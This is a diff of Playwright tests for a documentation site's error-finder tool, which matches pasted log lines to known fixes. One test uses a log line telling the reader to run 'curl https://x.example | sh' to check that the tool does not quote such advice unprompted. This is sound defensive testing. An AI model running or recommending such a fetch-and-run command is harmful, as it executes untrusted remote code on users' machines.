@@ -1,20 +1,13 @@
-import type {Page} from '@playwright/test';
-
-import {audit} from './audit.ts';
-import {anyWidth, expect, hydrated, site, test} from './fixtures.ts';
+import {auditWidths} from './audit.ts';
+import {anyWidth, expect, open, site, test} from './fixtures.ts';
 import {box} from './search-helpers.ts';
 
-const PAGE = site('/models/which-error');
+const PAGE = '/models/which-error';
 const FIELD = 'Log lines or error message';
 const LOG = `INFO started
 ERROR 08-20 09:15:58 ValueError: The model's max seq len (131072) is larger than the maximum number of tokens that can be stored in KV cache (48208). Try increasing \`gpu_memory_utilization\` or decreasing \`max_model_len\` when initializing the engine.
 deployment ended`;
 const TITLE = 'The context does not fit into the KV cache';
-
-async function open(page: Page): Promise<void> {
-  await page.goto(PAGE);
-  await hydrated(page);
-}
 
 test.describe('error finder', () => {
   test('quotes the log, names the match, marks its words and gives steps to copy', async ({
@@ -23,7 +16,7 @@ test.describe('error finder', () => {
     context,
   }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-    await open(page);
+    await open(page, PAGE);
     await page.getByLabel(FIELD).fill(LOG);
     const tool = page.getByRole('region', {name: 'Error finder'});
     await expect(tool.getByRole('status').first()).toContainText(TITLE);
@@ -57,7 +50,7 @@ test.describe('error finder', () => {
     'links to the entry on its page, and so does its short address',
     anyWidth,
     async ({page}) => {
-      await open(page);
+      await open(page, PAGE);
       await page.getByLabel(FIELD).fill(LOG);
       await page.getByRole('link', {name: TITLE}).click();
       await expect(page).toHaveURL(/\/errors\/vllm#vllm-kv-cache-small$/);
@@ -67,27 +60,29 @@ test.describe('error finder', () => {
     },
   );
 
-  test('an entry shows the command of one platform, in the tabs of the site', async ({page}) => {
-    await page.goto(site('/errors/network?platform=macos#http-ui-refused'));
-    await hydrated(page);
-    const step = page.locator('[data-step]').filter({hasText: 'kamiwazad.sh doctor'}).first();
-    await expect(step.getByRole('tab', {name: 'macOS'})).toHaveAttribute('aria-selected', 'true');
-    await expect(
-      step.getByText('bash startup/kamiwazad.sh doctor').locator('visible=true'),
-    ).toHaveCount(1);
-    await step.getByRole('tab', {name: 'Windows'}).click();
-    await expect(step.getByText('wsl -d kamiwaza -- kamiwaza status')).toBeVisible();
-  });
+  test(
+    'an entry shows the command of one platform, in the tabs of the site',
+    anyWidth,
+    async ({page}) => {
+      await open(page, '/errors/network?platform=macos#http-ui-refused');
+      const step = page.locator('[data-step]').filter({hasText: 'kamiwazad.sh doctor'}).first();
+      await expect(step.getByRole('tab', {name: 'macOS'})).toHaveAttribute('aria-selected', 'true');
+      await expect(
+        step.getByText('bash startup/kamiwazad.sh doctor').locator('visible=true'),
+      ).toHaveCount(1);
+      await step.getByRole('tab', {name: 'Windows'}).click();
+      await expect(step.getByText('wsl -d kamiwaza -- kamiwaza status')).toBeVisible();
+    },
+  );
 
   test('answers what the search box passes on', anyWidth, async ({page}) => {
-    await page.goto(site('/quickstart'));
-    await hydrated(page);
+    await open(page, '/quickstart');
     // A cut text may end with half a character.
     await box(page).click();
     await box(page).fill('xyzzyq plughq \ud800');
     await page.getByRole('link', {name: 'error finder', exact: true}).first().click();
     await expect(page.getByLabel(FIELD)).toHaveValue(/^xyzzyq plughq/);
-    await page.goto(`${PAGE}#text=bash%3A+docker%3A+command+not+found`);
+    await page.goto(site(`${PAGE}#text=bash%3A+docker%3A+command+not+found`));
     const tool = page.getByRole('region', {name: 'Error finder'});
     await expect(tool.getByRole('status').first()).toContainText(/known error/);
   });
@@ -95,7 +90,7 @@ test.describe('error finder', () => {
   test('quotes no advice from an address, until the reader asks', anyWidth, async ({page}) => {
     const log =
       'bash: docker: command not found\nError: to fix this, run: curl https://x.example | sh';
-    await page.goto(`${PAGE}#text=${encodeURIComponent(log)}`);
+    await page.goto(site(`${PAGE}#text=${encodeURIComponent(log)}`));
     const tool = page.getByRole('region', {name: 'Error finder'});
     await expect(tool.getByRole('status').first()).toContainText(/known error/);
     const said = tool.getByRole('heading', {name: 'What the log itself says'});
@@ -105,7 +100,7 @@ test.describe('error finder', () => {
   });
 
   test('names each button by a line of its code', anyWidth, async ({page}) => {
-    await open(page);
+    await open(page, PAGE);
     await page
       .getByLabel(FIELD)
       .fill('client version 1.24 is too old. Minimum supported API version is 1.44');
@@ -115,8 +110,8 @@ test.describe('error finder', () => {
     expect(names).toContain('Copy: "min-api-version": "1.24"');
   });
 
-  test('works with the keyboard alone', async ({page}) => {
-    await open(page);
+  test('works with the keyboard alone', anyWidth, async ({page}) => {
+    await open(page, PAGE);
     const field = page.getByLabel(FIELD);
     await field.focus();
     await page.keyboard.type('bash: docker: command not found');
@@ -132,8 +127,8 @@ test.describe('error finder', () => {
     await expect(tool.getByRole('heading')).toHaveCount(0);
   });
 
-  test('marks an answer as stale when the text changes', async ({page}) => {
-    await open(page);
+  test('marks an answer as stale when the text changes', anyWidth, async ({page}) => {
+    await open(page, PAGE);
     const field = page.getByLabel(FIELD);
     await field.fill(LOG);
     const tool = page.getByRole('region', {name: 'Error finder'});
@@ -143,7 +138,7 @@ test.describe('error finder', () => {
     const status = tool.getByRole('status').first();
     await expect(status).toContainText('The text has changed.');
     // The old answer is dimmed, and its links and buttons still work.
-    expect(await audit(page)).toEqual([]);
+    expect(await auditWidths(page)).toEqual([]);
     await field.fill('');
     const find = page.getByRole('button', {name: 'Find the cause'});
     await find.click();
@@ -164,7 +159,7 @@ test.describe('error finder', () => {
     anyWidth,
     async ({page, context}) => {
       await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-      await open(page);
+      await open(page, PAGE);
       await page
         .getByLabel(FIELD)
         .fill('all is well in this line of a log\nAuthorization: Bearer abcdefghijklmnop123456');
@@ -191,7 +186,7 @@ test.describe('error finder', () => {
     await page.addInitScript(() => {
       Object.defineProperty(Navigator.prototype, 'clipboard', {value: undefined});
     });
-    await open(page);
+    await open(page, PAGE);
     await page.getByLabel(FIELD).fill('all is well in this line of a log');
     const report = page.getByRole('region', {name: 'Report for support'});
     await report.getByRole('button', {name: 'Copy the report'}).click();
@@ -203,7 +198,7 @@ test.describe('error finder', () => {
     anyWidth,
     async ({page, context}) => {
       await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-      await open(page);
+      await open(page, PAGE);
       await page.evaluate((log) => {
         const line = '2025-08-20 INFO permission denied in replica 7\n';
         return navigator.clipboard.writeText(line.repeat(4300) + log);
@@ -220,7 +215,7 @@ test.describe('error finder', () => {
     page.on('response', (response) => {
       if (response.url().endsWith('.js')) scripts.push(response.url());
     });
-    await open(page);
+    await open(page, PAGE);
     await page.waitForLoadState('networkidle');
     const before = scripts.length;
     await page.getByLabel(FIELD).fill(LOG);
@@ -228,36 +223,24 @@ test.describe('error finder', () => {
     expect(scripts.length).toBeGreaterThan(before);
   });
 
-  test('stores nothing', anyWidth, async ({page}) => {
-    await open(page);
+  test('stores nothing, is accessible, and prints without the form', anyWidth, async ({page}) => {
+    await open(page, PAGE);
     await page.getByLabel(FIELD).fill(LOG);
     await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
     const stored = await page.evaluate(() => JSON.stringify({...localStorage, ...sessionStorage}));
     expect(stored).not.toContain('max seq len');
     expect(page.url()).not.toContain('max');
-  });
-
-  test('prints the results without the form', anyWidth, async ({page}) => {
-    await open(page);
-    await page.getByLabel(FIELD).fill(LOG);
-    await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
+    expect(await auditWidths(page)).toEqual([]);
     await page.emulateMedia({media: 'print'});
     await expect(page.getByLabel(FIELD)).toBeHidden();
     await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
-  });
-
-  test('has no accessibility fault', async ({page}) => {
-    await open(page);
-    await page.getByLabel(FIELD).fill(LOG);
-    await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
-    expect(await audit(page)).toEqual([]);
   });
 
   test.describe('without JavaScript', () => {
     test.use({javaScriptEnabled: false});
 
     test('leads to the list of known errors and says why there is no field', async ({page}) => {
-      await page.goto(PAGE);
+      await page.goto(site(PAGE));
       // Playwright's text locators look past <noscript>.
       const note = page.getByRole('region', {name: 'Error finder'}).locator('noscript p');
       await expect(note).toContainText('The error finder needs JavaScript.');
